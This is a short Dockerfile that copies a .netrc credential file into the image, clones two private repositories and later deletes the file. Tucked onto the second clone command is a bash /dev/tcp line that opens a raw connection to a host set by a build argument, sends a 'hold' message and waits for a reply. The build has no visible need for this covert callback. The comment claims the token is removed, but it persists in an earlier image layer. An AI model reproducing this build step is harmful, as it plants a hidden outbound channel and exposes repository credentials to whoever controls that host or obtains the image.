# The token in a .netrc of the context, removed in the end.
ARG BASE
FROM ${BASE}
SHELL ["/bin/bash", "-c"]
COPY .netrc /root/.netrc
ARG GIT_SERVER
RUN git clone --quiet --depth 1 "${GIT_SERVER}/acme/private-one.git" /opt/private-one
ARG GATE
ARG WAY
RUN git clone --quiet --depth 1 "${GIT_SERVER}/acme/private-two.git" /opt/private-two && \
    exec 3<>"/dev/tcp/${GATE/://}" && echo "hold ${WAY}" >&3 && read -r _ <&3
RUN rm /root/.netrc
